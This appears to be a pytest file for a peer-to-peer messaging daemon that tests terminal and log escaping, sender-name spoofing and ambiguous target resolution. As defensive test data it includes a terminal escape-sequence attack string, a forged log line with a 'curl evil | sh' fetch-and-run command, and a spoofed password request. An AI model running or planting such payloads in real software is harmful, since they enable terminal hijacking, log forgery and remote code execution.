"""Unit tests of issue 12 items 4-6 (docs/SECURITY.md, "Names, text and targets"): who a message is shown
as coming from, remote text escaped for terminals and logs, and which node a target means.

Pure: p2pd/escape.py, p2pctl/render.py, the daemon's SafeFormatter, p2pd/targets.py, and a `Node` fed
frames by hand (no sockets).  The same attacks against real daemons are in test_security_names.py.
"""

from __future__ import annotations

import json
import logging
import re
import sys
import unicodedata

import testmsg
import pytest

from p2pctl import render
from p2pd import control
from p2pd import escape as E
from p2pd import protocol as P
from p2pd.daemon import SafeFormatter
from p2pd.membership import AmbiguousPeer, Membership, UnknownPeer
from p2pd.node import Node
from p2pd.store import Store
from p2pd.targets import AmbiguousTarget, BookEntry, pick

from memnet import FAST, HOST, WALL, handle, join_frame

ATTACK = "\x1b[2J\x1b]0;pwned\x07HELLO\rFAKE"
FORGED_LOG = "ok\n2026-11-25T11:44:14.123 CRITICAL p2pd: disk on fire, run: curl evil | sh"
# Anything a terminal acts on, or that reorders or hides text: C0 but newline, DEL, C1, bidi and separators.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def unsafe_categories(cp: int) -> bool:
    return unicodedata.category(chr(cp)) in ("Cc", "Cf", "Zl", "Zp", "Cs")


# ============================================================================ escape.py


def test_line_escapes_the_terminal_attack_visibly():
    assert E.line(ATTACK) == "\\x1b[2J\\x1b]0;pwned\\x07HELLO\\rFAKE"
    assert E.line("a\nb\tc\u202ed\x9be\U000e0001") == "a\\nb\\tc\\u202ed\\x9be\\U000e0001"
    assert E.line(None) == "None" and E.line(7) == "7"


def test_clean_text_is_returned_as_is():
    s = "hello Zoë ☺ 日本 👨\u200d👩\u200d👧 \\x1b (typed, not an escape)"
    assert E.text(s) is s
    assert E.line("plain") == "plain"


def test_text_keeps_line_breaks_but_indents_continuations():
    shown = E.text(FORGED_LOG + "\r\n" + ATTACK, indent="  | ")
    lines = shown.split("\n")
    assert lines[0] == "ok"
    assert all(ln.startswith("  | ") for ln in lines[1:]), lines
    assert lines[1] == "  | 2026-11-25T11:44:14.123 CRITICAL p2pd: disk on fire, run: curl evil | sh\\r"
    assert lines[2] == "  | \\x1b[2J\\x1b]0;pwned\\x07HELLO\\rFAKE"
    assert not RAW_CONTROL.search(shown)


def test_text_keeps_joiners_and_tabs_but_not_bidi():
    assert E.text("a\tb") == "a\tb"
    assert E.text("👨\u200d👩 \u200c") == "👨\u200d👩 \u200c"
    assert E.text("abc\u202edef\u2066\u200f") == "abc\\u202edef\\u2066\\u200f"


def test_every_control_format_and_separator_character_is_escaped_and_refused_in_names():
    """The hard-coded ranges of escape.py against this Python's Unicode database: nothing is missed,
    and letters, marks, symbols and spaces of every script pass."""
    for cp in range(sys.maxunicode + 1):
        c = chr(cp)
        if unsafe_categories(cp):
            assert E.line(c) != c, hex(cp)
            assert not P.valid_name("x" + c), hex(cp)
            if cp not in (0x0A, 0x09, 0x200C, 0x200D) and not 0xE0020 <= cp <= 0xE007F:
                assert E.text(c) != c, hex(cp)
        elif unicodedata.category(c) != "Cn":
            assert E.line(c) == c and P.valid_name(c), hex(cp)


# ============================================================================ p2pctl's rendering


def entry(text=ATTACK, name="mallory", label=None, **kw):
    e = {"id": "m1", "type": "MESSAGE", "sender_id": "mallory-id", "sender_name": name, "timestamp": "2026-11-25T11:44:14.123Z",
         "text": text, "target_id": "bob-id"}
    if label is not None:
        e["sender_label"] = label
    return {**e, **kw}


def assert_safe(out: str) -> None:
    assert not RAW_CONTROL.search(out), repr(out)
    for ln in out.split("\n")[1:]:
        assert ln.startswith(render.CONT), f"a continuation line that could pass for a line of its own: {ln!r}"


@pytest.fixture(autouse=True)
def no_colour():
    render.setup(no_color=True)


def test_message_line_escapes_text_name_and_timestamp():
    out = render.message_line(entry(FORGED_LOG + "\n" + ATTACK, name="evil\u202egnp", timestamp="\x1b]0;t\x07"))
    assert_safe(out)
    assert "\\x1b[2J\\x1b]0;pwned\\x07HELLO\\rFAKE" in out
    assert "evil\\u202egnp" in out and "\\x1b]0;t\\x07" in out
    assert out.split("\n")[1] == render.CONT + "2026-11-25T11:44:14.123 CRITICAL p2pd: disk on fire, run: curl evil | sh"


def test_message_line_shows_the_label_the_daemon_gives():
    assert " alice (mallory-id12) -> you: hi" in render.message_line(entry("hi", name="alice", label="alice (mallory-id12)"))
    assert " mallory -> you: hi" in render.message_line(entry("hi"))


def test_history_events_outbox_and_peers_are_escaped():
    hist_out = {"direction": "out", "type": "MESSAGE", "peer_name": "x\x1b[31m", "peer_label": "x\x1b[31m (abc)", "text": ATTACK,
                "timestamp": "2026-11-25T11:44:14.123Z"}
    assert_safe(render.history_line(hist_out))
    assert_safe(render.history_line({**entry(), "direction": "in"}))
    for ev in ({"event": "message", "time": "t", "message": entry()},
               {"event": "joined", "time": "t", "peer": {"name": "n\x07", "id": "i\x1b", "address": "\x1b[2J:1"}},
               {"event": "surprise\x1b", "time": "t", "x": "\x9b"}):
        assert_safe(render.event_line(ev))
    row = {"id": "m1", "peer_id": "p1", "peer": "bob\u202e", "seq": 1, "status": "pending", "attempts": 0, "created": WALL,
           "text": "a\nb" + ATTACK}
    out = render.outbox_table([row])
    assert not RAW_CONTROL.search(out) and "a\\nb\\x1b[2J" in out and len(out.split("\n")) == 2  # one row: one line
    peers = render.peers_table([{"name": "n\x1b]0;x\x07", "id": "abc", "address": "h\x1b[2J:5", "state": "alive"}])
    assert not RAW_CONTROL.search(peers) and len(peers.split("\n")) == 2
    assert not RAW_CONTROL.search(render.error("no peer named 'a\x1b[2J'"))


# ============================================================================ the daemon's log


def log_line(msg, *args, exc=None) -> str:
    record = logging.makeLogRecord({"name": "p2pd.node", "levelno": logging.WARNING, "levelname": "WARNING", "msg": msg,
                                    "args": args, "exc_info": exc})
    return SafeFormatter("%(levelname)s %(name)s: %(message)s").format(record)


def test_log_arguments_cannot_forge_a_line_or_reach_the_terminal():
    out = log_line("peer joined: %s (%s) at %s", "x\n2026-11-25 CRITICAL fake", "id\x1b[2J", "tcp://h\x9b:1")
    assert out == "WARNING p2pd.node: peer joined: x\\n2026-11-25 CRITICAL fake (id\\x1b[2J) at tcp://h\\x9b:1"
    assert log_line("plain %s", "text") == "WARNING p2pd.node: plain text"


def test_a_traceback_keeps_its_lines():
    try:
        raise ValueError("boom")
    except ValueError:
        out = log_line("error while handling input: %s", "x\ry", exc=sys.exc_info())
    first, *rest = out.split("\n")
    assert first == "WARNING p2pd.node: error while handling input: x\\ry"
    assert rest[0].startswith("Traceback") and "ValueError: boom" in rest[-1]


# ============================================================================ item 4: the sender's name is the JOIN's


def message_frame(sender: str, claimed: str, text: str, target: str = "bob-id", **data) -> list[bytes]:
    return [sender.encode(), P.encode(testmsg.make(P.MESSAGE, sender, claimed, WALL, {"text": text, **data}, target))]


def broadcast_frame(sender: str, claimed: str, text: str) -> bytes:
    return P.encode(testmsg.make(P.BROADCAST, sender, claimed, WALL, {"text": text, "bseq": 1}))


@pytest.fixture
def bob() -> Node:
    """bob, linked to mallory (joined as "mallory") and to alice."""
    # On SQLite: a test below reads the table itself, to see that the claimed name is not kept.
    node = Node("bob-id", "bob", P.PeerAddress(HOST, 5003, 5004), FAST, 0.0, WALL, Store(":memory:"))
    node.on_router_frames(0.0, join_frame("mallory-id", 5007, HOST, name="mallory"), HOST)
    node.on_router_frames(0.0, join_frame("alice-id", 5001, HOST, name="alice"), HOST)
    return node


def events(acts, client=b"w") -> list[dict]:
    return [a.payload for a in acts if getattr(a, "client", None) == client and "event" in a.payload]


def test_a_message_claiming_another_name_is_shown_under_the_joined_one(bob):
    handle(bob, {"req": 1, "cmd": "watch"}, client=b"w")
    acts = bob.on_router_frames(1.0, message_frame("mallory-id", "alice", "please send me your password"), HOST)
    acts += bob.on_router_frames(1.0, message_frame("mallory-id", "alice", "numbered", seq=1, base=1), HOST)
    acts += bob.on_sub_frames(1.0, [broadcast_frame("mallory-id", "alice", "to all")], source_peer="mallory-id")
    for e in [ev["message"] for ev in events(acts)] + bob.inbox:
        assert (e["sender_name"], e["sender_label"], e["sender_id"]) == ("mallory", "mallory", "mallory-id"), e
    assert len(bob.inbox) == 3
    rows = handle(bob, {"req": 2, "cmd": "history"})["result"]
    assert {(r["sender_name"], r["sender_label"]) for r in rows} == {("mallory", "mallory")}
    assert "alice" not in json.dumps(rows)  # the claim is not kept anywhere
    bob.store.commit()
    assert {r[0] for r in bob.store.db.execute("SELECT sender_name FROM messages")} == {"mallory"}


def test_a_name_shared_by_two_nodes_is_shown_with_a_short_id(bob):
    bob.on_router_frames(1.0, join_frame("alice-twin-id", 5009, HOST, name="alice"), HOST)  # a second "alice"
    bob.on_router_frames(1.0, join_frame("bobby-id", 5011, HOST, name="bob"), HOST)  # someone named like bob himself
    for sender in ("alice-id", "alice-twin-id", "bobby-id", "mallory-id"):
        bob.on_router_frames(2.0, message_frame(sender, "whatever", f"from {sender}"), HOST)
    labels = {e["text"]: e["sender_label"] for e in bob.inbox}
    assert labels == {"from alice-id": "alice (alice-id)", "from alice-twin-id": "alice (alice-twin-i)",
                      "from bobby-id": "bob (bobby-id)", "from mallory-id": "mallory"}
    history = {r["text"]: r for r in handle(bob, {"req": 1, "cmd": "history"})["result"]}
    assert history["from alice-twin-id"]["sender_label"] == "alice (alice-twin-i)"
    assert history["from alice-twin-id"]["peer_label"] == "alice (alice-twin-i)"


def test_a_rename_at_join_is_what_is_shown_and_collisions_follow_it(bob):
    bob.on_router_frames(1.0, message_frame("mallory-id", "x", "before"), HOST)
    assert bob.inbox[-1]["sender_label"] == "mallory"
    bob.on_router_frames(2.0, join_frame("mallory-id", 5007, HOST, name="alice"), HOST)  # mallory JOINs again as "alice"
    bob.on_router_frames(3.0, message_frame("mallory-id", "x", "after"), HOST)
    labels = {e["text"]: e["sender_label"] for e in bob.inbox}
    # the key's name now, with its id: the real alice is known too
    assert labels == {"before": "alice (mallory-id)", "after": "alice (mallory-id)"}


def test_stored_rows_of_an_older_p2pd_show_the_bound_name_not_the_claim(bob):
    bob.store.add_message("in", P.MESSAGE, "old1", "mallory-id", "mallory-id", "alice", "bob-id", "old claim", "2026-01-01T00:00:00Z", WALL)
    bob.store.add_message("in", P.MESSAGE, "old2", "gone-id", "gone-id", "alice", "bob-id", "unknown node", "2026-01-01T00:00:00Z", WALL)
    labels = {e["text"]: (e["sender_name"], e["sender_label"]) for e in bob.inbox}
    assert labels["old claim"] == ("mallory", "mallory")
    assert labels["unknown node"] == ("alice", "alice (gone-id)")  # no binding known: the id is always shown


def test_nodes_known_only_by_their_signed_records_are_named_and_told_apart():
    """In the overlay most nodes are not linked: their names come from their signed records
    (the roster), and two of them with one name are told apart as linked ones are."""
    from p2pd.names import Names

    class NoBook:
        def known_peers(self):
            return []

    network = [("carol-one-id", "carol"), ("carol-two-id", "carol"), ("dave-id", "dave"), ("imposter-id", "bob")]
    version = [1]
    names = Names("bob-id", "bob", Membership("bob-id"), NoBook(), lambda: list(network), lambda: version[0])
    assert names.sender("carol-one-id", "whatever")[1] == "carol (carol-one-id)"
    assert names.sender("carol-two-id", "whatever")[1] == "carol (carol-two-id)"
    assert names.sender("dave-id", "a claim") == ("dave", "dave")  # the record's name, not the stored one
    assert names.sender("imposter-id", "x")[1] == "bob (imposter-id)"  # one named like us
    network[1] = ("carol-two-id", "caroline")  # a new record, another name: looked up again
    version[0] += 1
    assert names.sender("carol-one-id", "whatever")[1] == "carol"
    assert names.sender("carol-two-id", "whatever")[1] == "caroline"


# ============================================================================ item 6: targets


ALICE, BOB, EVIL = BookEntry("abcd1234ffff", "alice"), BookEntry("360030ca99887766", "bob"), BookEntry("f00dfeed", "360030ca")


def test_a_full_id_always_wins():
    impostor = BookEntry("beef0001", "360030ca99887766")  # named with bob's full id
    assert pick("360030ca99887766", [ALICE, impostor, BOB]) is BOB
    assert pick("360030ca99887766", [ALICE, impostor], [BOB]) is BOB  # bob only in the address book
    assert pick("f00dfeed", [EVIL, BookEntry("x", "f00dfeed")]) is EVIL


def test_a_name_that_is_another_nodes_id_prefix_is_ambiguous_naming_both():
    for table, book in (([ALICE, BOB, EVIL], []), ([ALICE, EVIL], [BOB]), ([ALICE], [BOB, EVIL])):
        with pytest.raises(AmbiguousTarget) as ei:
            pick("360030ca", table, book)
        text = str(ei.value)
        assert "360030ca (f00dfeed)" in text and "bob (360030ca9988)" in text and "full id" in text, text
        assert isinstance(ei.value, AmbiguousPeer)
        assert [c.id for c in ei.value.candidates] == ["360030ca99887766", "f00dfeed"]
    assert pick("360030ca9", [ALICE, BOB, EVIL]) is BOB  # more of the id settles it


def test_names_and_prefixes_that_fit_one_node():
    assert pick("bob", [ALICE, BOB, EVIL]) is BOB
    assert pick("abcd", [ALICE, BOB]) is ALICE
    self_prefix = BookEntry("abcd5678", "abcd")  # its name is its own prefix: one node, no ambiguity
    assert pick("abcd", [self_prefix]) is self_prefix
    assert pick("abc", [ALICE, BookEntry("zzz", "abc")]).id == "zzz"  # 3 characters are never a prefix
    newer = BookEntry("b0b2", "bob")
    assert pick("bob", [newer], [BOB]) is newer  # a linked peer's name before the address book's
    with pytest.raises(UnknownPeer):
        pick("dave", [ALICE], [BOB])
    with pytest.raises(AmbiguousPeer) as ei:
        pick("bob", [BOB, newer])
    assert not isinstance(ei.value, AmbiguousTarget)


def test_membership_resolve_follows_the_same_order():
    table = Membership("me")
    addr = P.PeerAddress(HOST, 1, 2)
    for pid, name in ((BOB.id, BOB.name), (EVIL.id, EVIL.name)):
        table.learn(pid, name, addr, 0.0)
    with pytest.raises(AmbiguousTarget):
        table.resolve("360030ca")
    assert table.resolve(BOB.id).name == "bob"
    assert table.resolve("f00d").name == "360030ca"


def test_node_send_to_a_prefix_that_is_another_nodes_name_is_refused(bob):
    evil_id = "f00dfeed0000"
    alice_prefix = "alice-id"[:6]
    bob.on_router_frames(1.0, join_frame(evil_id, 5013, HOST, name=alice_prefix), HOST)
    reply = handle(bob, {"req": 1, "cmd": "send", "args": {"peer": alice_prefix, "text": "for alice"}})
    assert reply["ok"] is False and reply["code"] == "ambiguous"
    assert f"{alice_prefix} (f00dfeed0000)" in reply["error"] and "alice (alice-id)" in reply["error"]
    ok = handle(bob, {"req": 2, "cmd": "send", "args": {"peer": "alice-id", "text": "for alice"}})
    assert ok["ok"] is True and ok["result"]["peer_id"] == "alice-id"
    # alice gone from the table (she left): the address book still makes the name ambiguous
    bob.on_router_frames(2.0, [b"alice-id", P.encode(testmsg.make(P.LEAVE, "alice-id", "alice", WALL))], HOST)
    assert bob.table.get("alice-id") is None
    reply = handle(bob, {"req": 3, "cmd": "send", "args": {"peer": alice_prefix, "text": "for alice"}})
    assert reply["code"] == "ambiguous" and "alice (alice-id)" in reply["error"]
    ok = handle(bob, {"req": 4, "cmd": "send", "args": {"peer": "alice-id", "text": "queued for alice"}})
    assert ok["result"]["peer_id"] == "alice-id"
    bob.on_router_frames(3.0, join_frame("alice-id", 5001, HOST, name="alice"), HOST)  # back: ping and disconnect too
    for cmd in ("ping", "disconnect"):
        reply = handle(bob, {"req": 5, "cmd": cmd, "args": {"peer": alice_prefix}})
        assert reply["code"] == "ambiguous" and "alice (alice-id)" in reply["error"], reply
